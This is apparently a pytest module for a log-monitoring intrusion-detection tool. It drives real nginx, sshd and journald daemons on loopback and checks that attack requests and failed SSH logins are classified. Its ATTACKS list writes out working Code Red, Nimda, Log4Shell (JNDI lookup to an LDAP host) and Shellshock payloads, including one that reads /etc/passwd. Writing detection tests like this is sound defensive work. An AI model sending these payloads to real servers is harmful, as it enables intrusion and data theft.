"""Log sources against real daemons: nginx writes the access log, sshd the auth log, journald
the journal; the follower reads them live and the signatures classify what it emits.

Addresses: 127.0.130.0/24 (the logs piece's range). Clients bind 127.0.130.9 as their source so
the logged ``src`` is known. journald runs in a private mount namespace (its sockets and
journal files bind-mounted from the test's directory) so it never touches the machine's own
logging; ``journalctl --directory`` reads what it wrote.
"""

from __future__ import annotations

import asyncio
import contextlib
import functools
import http.client
import os
import shutil
import signal
import socket
import subprocess
import time
from collections.abc import Callable, Coroutine, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from daemons import (
    Daemon,
    DaemonUnavailable,
    _need,
    _spawn,
    _started,
    daemon_fixture,
    running,
    wait_tcp,
)
from fixtures_web import start_nginx_site
from mamori.model.watch import Event, EventType
from mamori.watch import signatures
from mamori.watch.logs import FollowLimits, LogFollower, LogSpec

HOST = "127.0.130.1"
CLIENT = "127.0.130.9"
NGINX_PORT = 18130
SSHD_PORT = 18131
SSHD_JOURNAL_PORT = 18132
FAST = FollowLimits(poll_interval=0.05, rotate_grace=1.0)

pytestmark = pytest.mark.daemon


def sync(fn: Callable[..., Coroutine[Any, Any, None]]) -> Callable[..., None]:
    """Run an async test body under asyncio.run (pytest sees the same fixtures)."""

    @functools.wraps(fn)
    def run(*args: Any, **kwargs: Any) -> None:
        asyncio.run(fn(*args, **kwargs))

    return run


async def wait_for(pred: Callable[[], bool], timeout: float = 10.0) -> None:
    end = time.monotonic() + timeout
    while not pred():
        if time.monotonic() > end:
            raise AssertionError("timed out waiting")
        await asyncio.sleep(0.05)


# --- nginx ---------------------------------------------------------------------------------


@pytest.fixture
def nginx(tmp_path: Path) -> Iterator[Daemon]:
    log = tmp_path / "access.log"
    body = f"    access_log {log} combined;\n    location / {{ return 404; }}"
    yield from daemon_fixture(lambda: start_nginx_site(tmp_path, HOST, {NGINX_PORT: body}))


def http_get(path: str, headers: dict[str, str] | None = None) -> int:
    conn = http.client.HTTPConnection(HOST, NGINX_PORT, timeout=5, source_address=(CLIENT, 0))
    try:
        conn.putrequest("GET", path, skip_host=True, skip_accept_encoding=True)
        conn.putheader("Host", "shop.test")
        for name, value in (headers or {}).items():
            conn.putheader(name, value)
        conn.endheaders()
        return conn.getresponse().status
    finally:
        conn.close()


def raw_send(data: bytes) -> None:
    with socket.socket() as s:
        s.settimeout(5)
        s.bind((CLIENT, 0))
        s.connect((HOST, NGINX_PORT))
        s.sendall(data)
        s.shutdown(socket.SHUT_WR)
        with contextlib.suppress(OSError):
            while s.recv(4096):
                pass


ATTACKS: list[tuple[str, dict[str, str], str]] = [
    ("/default.ida?" + "N" * 224 + "%u9090%u6858%ucbd3%u7801%u9090%u6858%u00=a", {},
     "worm.codered"),
    ("/scripts/root.exe?/c+dir", {}, "worm.nimda"),
    ("/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir", {}, "worm.nimda"),
    ("/", {"User-Agent": "${jndi:ldap://127.0.130.66:1389/Basic/Command/a}"},
     "exploit.log4shell"),
    ("/?q=${${lower:j}ndi:${lower:l}dap://127.0.130.66/x}", {}, "exploit.log4shell"),
    ("/cgi-bin/status", {"User-Agent": "() { :; }; echo; /bin/cat /etc/passwd",
                         "Referer": "() { :;}; /bin/bash -c \"id\""}, "exploit.shellshock"),
]


@sync
async def test_nginx_access_log_attacks_become_classified_events(nginx: Daemon,
                                                                 tmp_path: Path) -> None:
    sigs = signatures.load()
    events: list[Event] = []
    follower = LogFollower(LogSpec("access", str(tmp_path / "access.log")), events.append,
                           limits=FAST)
    await follower.start()
    try:
        http_get("/index.html", {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"})
        for path, headers, _kind in ATTACKS:
            await asyncio.to_thread(http_get, path, headers)
        hello = b"\x16\x03\x01\x00\xf1\x01\x00\x00\xed\x03\x03" + bytes(64)  # TLS to HTTP
        await asyncio.to_thread(raw_send, hello)
        await wait_for(lambda: len(events) >= len(ATTACKS) + 2)
    finally:
        await follower.close()
    assert all(e.type is EventType.HTTP_REQUEST and e.src == CLIENT for e in events)
    classified = [sigs.classify(e) for e in events]
    benign, attacks, tls = classified[0], classified[1:-1], classified[-1]
    assert benign.signatures == () and benign.fields["path"] == "/index.html"
    for event, (_path, _headers, kind) in zip(attacks, ATTACKS, strict=True):
        kinds = {sigs.get(s).kind for s in event.signatures}  # type: ignore[union-attr]
        assert kind in kinds, (event.excerpt, event.signatures)
        assert event.danger.rank >= 2
    # nginx escapes the handshake bytes as \xHH; the parser keeps it as a malformed request
    assert tls.fields["malformed"] == "yes" and tls.fields["status"] == "400"
    assert tls.fields["request"].startswith("\x16\x03\x01")
    assert tls.excerpt.startswith("\\x16\\x03\\x01")
    assert follower.stats.ignored == 0


@sync
async def test_nginx_rotation_rename_then_reopen_loses_nothing(nginx: Daemon,
                                                               tmp_path: Path) -> None:
    """logrotate's default for nginx: rename the file, then USR1 makes nginx open a new one.
    Requests logged to the old file between the two must still be read."""
    log = tmp_path / "access.log"
    events: list[Event] = []
    follower = LogFollower(LogSpec("access", str(log)), events.append, limits=FAST)
    await follower.start()
    try:
        for i in range(3):
            await asyncio.to_thread(http_get, f"/before/{i}")
        await wait_for(lambda: len(events) >= 3)
        log.rename(tmp_path / "access.log.1")
        for i in range(3):  # still written to the renamed file
            await asyncio.to_thread(http_get, f"/between/{i}")
        master = int((tmp_path / "nginx.pid").read_text().split()[0])
        os.kill(master, signal.SIGUSR1)
        await wait_for(log.exists)
        await asyncio.sleep(0.3)  # the worker reopens after the master
        for i in range(3):
            await asyncio.to_thread(http_get, f"/after/{i}")
        await wait_for(lambda: len(events) >= 9)
        await asyncio.sleep(0.3)
    finally:
        await follower.close()
    paths = [e.fields["path"] for e in events]
    assert sorted(paths) == sorted(
        [f"/{stage}/{i}" for stage in ("before", "between", "after") for i in range(3)]
    )
    assert follower.stats.rotations == 1


# --- sshd ----------------------------------------------------------------------------------


def _sshd_config(workdir: Path, port: int) -> Path:
    key = workdir / "ssh_host_ed25519_key"
    if not key.exists():
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True)
    Path("/run/sshd").mkdir(mode=0o755, exist_ok=True)
    cfg = workdir / "sshd_config"
    cfg.write_text(
        f"Port {port}\nListenAddress {HOST}:{port}\nHostKey {key}\n"
        f"PidFile {workdir / 'sshd.pid'}\nUsePAM no\nStrictModes no\nUseDNS no\n"
        "PasswordAuthentication yes\nKbdInteractiveAuthentication no\nPermitRootLogin yes\n"
        "AuthorizedKeysFile none\nLogLevel VERBOSE\nMaxAuthTries 3\n"
    )
    return cfg


def start_sshd_logfile(workdir: Path, port: int) -> Daemon:
    """sshd (password logins allowed, all fail) logging to ``workdir/sshd-auth.log``."""
    sshd = _need("/usr/sbin/sshd")
    cfg = _sshd_config(workdir, port)
    logfile = workdir / "sshd-auth.log"
    logfile.touch()
    proc, out = _spawn([sshd, "-D", "-f", str(cfg), "-E", str(logfile)], workdir, "sshd.out")
    d = Daemon("sshd", HOST, port, proc, workdir, workdir / "sshd.pid", out)
    return _started(d, lambda: wait_tcp(HOST, port, proc=proc))


def ssh_fail(user: str, port: int) -> None:
    """One real ssh client login with a wrong password (sshpass answers the prompt)."""
    sshpass = shutil.which("sshpass")
    if sshpass is None:
        pytest.skip("sshpass not installed (scripts/install-test-deps)")
    subprocess.run(
        [sshpass, "-p", "wrong-password", "ssh", "-F", "/dev/null", "-b", CLIENT,
         "-p", str(port), "-o", "StrictHostKeyChecking=no",
         "-o", "UserKnownHostsFile=/dev/null", "-o", "GlobalKnownHostsFile=/dev/null",
         "-o", "PubkeyAuthentication=no", "-o", "PreferredAuthentications=password",
         "-o", "NumberOfPasswordPrompts=1", "-o", "ConnectTimeout=5", "-o", "LogLevel=ERROR",
         f"{user}@{HOST}", "true"],
        capture_output=True, timeout=20, check=False,
    )


@pytest.fixture
def sshd(tmp_path: Path) -> Iterator[Daemon]:
    yield from daemon_fixture(lambda: start_sshd_logfile(tmp_path, SSHD_PORT))


@sync
async def test_sshd_failed_logins_from_real_client(sshd: Daemon, tmp_path: Path) -> None:
    events: list[Event] = []
    follower = LogFollower(LogSpec("auth", str(tmp_path / "sshd-auth.log")), events.append,
                           limits=FAST)
    await follower.start()
    try:
        for user in ("root", "nosuchuser", "admin"):
            await asyncio.to_thread(ssh_fail, user, SSHD_PORT)
        await wait_for(lambda: sum(e.type is EventType.AUTH_FAILURE for e in events) >= 3)
        await asyncio.sleep(0.3)
    finally:
        await follower.close()
    failures = [e for e in events if e.type is EventType.AUTH_FAILURE]
    # one attempt each: "Failed password" counts, "Connection closed by ..." is merged into it
    assert [(e.fields["username"], e.src) for e in failures] == [
        ("root", CLIENT), ("nosuchuser", CLIENT), ("admin", CLIENT)
    ]
    assert all(e.fields["stage"] == "failed" and e.src_port for e in failures)
    assert failures[1].fields.get("invalid_user") == "yes"
    invalid = [e for e in events if e.type is EventType.AUTH_INVALID_USER]
    assert {e.fields["username"] for e in invalid} == {"nosuchuser", "admin"}
    assert follower.stats.merged >= 3


# --- journald ------------------------------------------------------------------------------

JOURNALD = "/usr/lib/systemd/systemd-journald"
_JOURNALD_CONF = """[Journal]
Storage=persistent
ReadKMsg=no
ForwardToSyslog=no
ForwardToKMsg=no
ForwardToConsole=no
ForwardToWall=no
Audit=no
"""


@dataclass
class PrivateJournal:
    run: Path  # bound over /run/systemd/journal inside the namespace
    directory: Path  # bound over /var/log/journal: journalctl --directory reads it
    proc: subprocess.Popen[bytes]

    def send(self, **fields: str) -> None:
        """One record through journald's native protocol socket."""
        payload = "".join(f"{k}={v}\n" for k, v in fields.items()).encode()
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as s:
            s.sendto(payload, str(self.run / "socket"))

    def namespaced(self, argv: list[str]) -> list[str]:
        """A command run with this journal as the system journal (for systemd-cat)."""
        script = (
            f"mount --make-rprivate / && mount --bind {self.run} /run/systemd/journal && "
            'exec "$@"'
        )
        return ["unshare", "-m", "sh", "-c", script, "sh", *argv]


def start_journald(workdir: Path) -> Daemon:
    """systemd-journald in its own mount namespace, writing to ``workdir/journal``: its
    sockets in ``workdir/jrun`` (see PrivateJournal)."""
    if not os.path.exists(JOURNALD) or shutil.which("unshare") is None or os.geteuid() != 0:
        raise DaemonUnavailable("systemd-journald, unshare and root are needed")
    run, directory, conf = workdir / "jrun", workdir / "journal", workdir / "journald.conf"
    run.mkdir()
    directory.mkdir()
    (run / "flushed").touch()  # write to /var/log/journal (our directory) from the start
    conf.write_text(_JOURNALD_CONF)
    script = (
        "set -e; mount --make-rprivate /; mkdir -p /run/systemd/journal /var/log/journal; "
        f"mount --bind {run} /run/systemd/journal; mount --bind {directory} /var/log/journal; "
        f"mount --bind {conf} /etc/systemd/journald.conf; exec {JOURNALD}"
    )
    proc, log = _spawn(["unshare", "-m", "sh", "-c", script], workdir, "journald.out")

    def wait() -> None:
        end = time.monotonic() + 10
        while not (run / "socket").exists() or not any(directory.rglob("*.journal")):
            if proc.poll() is not None or time.monotonic() > end:
                raise DaemonUnavailable("journald did not start")
            time.sleep(0.05)

    return _started(Daemon("journald", HOST, 0, proc, workdir, None, log), wait)


@pytest.fixture
def journal(tmp_path: Path) -> Iterator[PrivateJournal]:
    with running(start_journald, tmp_path) as daemon:
        yield PrivateJournal(tmp_path / "jrun", tmp_path / "journal", daemon.proc)


@pytest.mark.root
@sync
async def test_journald_sshd_from_real_sshd(journal: PrivateJournal, tmp_path: Path) -> None:
    """sshd logs to journald (its stderr connected by systemd-cat, identifier sshd); the
    follower runs ``journalctl -f -o json --directory`` and gets the failures."""

    def start_sshd_journald() -> Daemon:
        sshd_bin = _need("/usr/sbin/sshd")
        cfg = _sshd_config(tmp_path, SSHD_JOURNAL_PORT)
        argv = ["systemd-cat", "-t", "sshd", sshd_bin, "-D", "-e", "-f", str(cfg)]
        proc, out = _spawn(journal.namespaced(argv), tmp_path, "sshd.out")
        daemon = Daemon("sshd", HOST, SSHD_JOURNAL_PORT, proc, tmp_path, tmp_path / "sshd.pid",
                        out)
        return _started(daemon, lambda: wait_tcp(HOST, SSHD_JOURNAL_PORT, proc=proc))

    events: list[Event] = []
    follower = LogFollower(LogSpec("journald-sshd", str(journal.directory)), events.append,
                           limits=FAST)
    with running(start_sshd_journald):
        try:
            await follower.start()
            await asyncio.sleep(0.5)  # journalctl is at the end of the journal
            for user in ("root", "guest"):
                await asyncio.to_thread(ssh_fail, user, SSHD_JOURNAL_PORT)
            await wait_for(lambda: sum(e.type is EventType.AUTH_FAILURE for e in events) >= 2)
        finally:
            await follower.close()
    failures = [e for e in events if e.type is EventType.AUTH_FAILURE]
    assert [(e.fields["username"], e.src) for e in failures] == [("root", CLIENT),
                                                                 ("guest", CLIENT)]
    assert all(e.source == f"journald:sshd:{journal.directory}" for e in events)
    assert all(e.fields["pid"].isdigit() for e in failures)  # _PID / SYSLOG_PID of sshd


@pytest.mark.root
@sync
async def test_journald_follow_read_once_and_other_programs_ignored(
    journal: PrivateJournal,
) -> None:
    journal.send(SYSLOG_IDENTIFIER="sshd", SYSLOG_PID="4242", MESSAGE=(
        "Failed password for root from 127.0.130.20 port 40000 ssh2"))
    journal.send(SYSLOG_IDENTIFIER="cron", MESSAGE=(
        "Failed password for root from 127.0.130.21 port 40001 ssh2"))
    journal.send(SYSLOG_IDENTIFIER="sshd-session", MESSAGE=(
        "Invalid user oracle from 127.0.130.22 port 40002"))
    await asyncio.sleep(0.3)
    once: list[Event] = []
    reader = LogFollower(LogSpec("journald-sshd", str(journal.directory), follow=False),
                         once.append)
    await reader.start()
    await asyncio.wait_for(reader.wait(), 10)
    assert [(e.type, e.src) for e in once] == [
        (EventType.AUTH_FAILURE, "127.0.130.20"), (EventType.AUTH_INVALID_USER, "127.0.130.22")
    ]
    assert once[0].fields["pid"] == "4242"
    # following from the end: only what is sent afterwards
    live: list[Event] = []
    follower = LogFollower(LogSpec("journald-sshd", str(journal.directory)), live.append,
                           limits=FAST)
    await follower.start()
    try:
        await asyncio.sleep(0.5)
        journal.send(SYSLOG_IDENTIFIER="sshd", MESSAGE=(
            "Accepted publickey for alice from 127.0.130.23 port 40003 ssh2: ED25519 SHA256:x"))
        await wait_for(lambda: len(live) >= 1)
    finally:
        await follower.close()
    assert [(e.type, e.src, e.fields["username"]) for e in live] == [
        (EventType.AUTH_SUCCESS, "127.0.130.23", "alice")
    ]
